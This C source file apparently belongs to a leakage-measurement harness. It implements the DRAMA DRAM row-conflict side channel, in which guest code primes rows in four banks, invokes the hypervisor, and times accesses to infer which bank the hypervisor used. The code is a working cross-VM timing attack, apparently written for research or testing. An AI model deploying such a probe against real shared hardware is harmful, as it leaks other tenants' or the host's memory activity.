/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Channel open-rows: in which bank of memory the hypervisor opened a row.
 *
 * DRAMA (Pessl, Gruss, Maurice, Schwarz, Mangard, USENIX Security 2016), row conflicts: the
 * attacker opens a row of its own in every bank, lets the victim run, and reads its rows again. The
 * bank in which the victim read has to close the victim's row first. The observation is the slowest
 * bank.
 */
#include "leak.h"

enum { BANKS = 4, ROW = LEAK_BANK_BYTES, STRIDE = 8 * ROW, ROWS = 48, COLUMNS = ROW / LINE };
enum { WARM = 8 }; /* rows that leak_warm() has read */

/* A line of this bank that no cache holds: each is used once in ROWS * COLUMNS accesses. */
static const uint8_t *fresh(uint64_t n, uint64_t bank)
{
    return leak_memory() + (WARM + n / COLUMNS) % ROWS * STRIDE + bank * ROW + n % COLUMNS * LINE;
}

void guest_main(void)
{
    leak_warm();
    for (uint64_t i = 0; i < leak_parameters.symbols; i++) {
        uint64_t slowest = 0;
        uint64_t longest = 0;

        for (uint64_t bank = 0; bank < BANKS; bank++) {
            leak_touch(fresh(2 * i, bank));
        }
        (void)leak_call(LEAK_ROW, BANKS);
        for (uint64_t bank = 0; bank < BANKS; bank++) {
            const uint64_t time = leak_time(fresh(2 * i + 1, bank));

            if (time > longest) {
                longest = time;
                slowest = bank;
            }
        }
        leak_record(slowest);
    }
    leak_report();
}
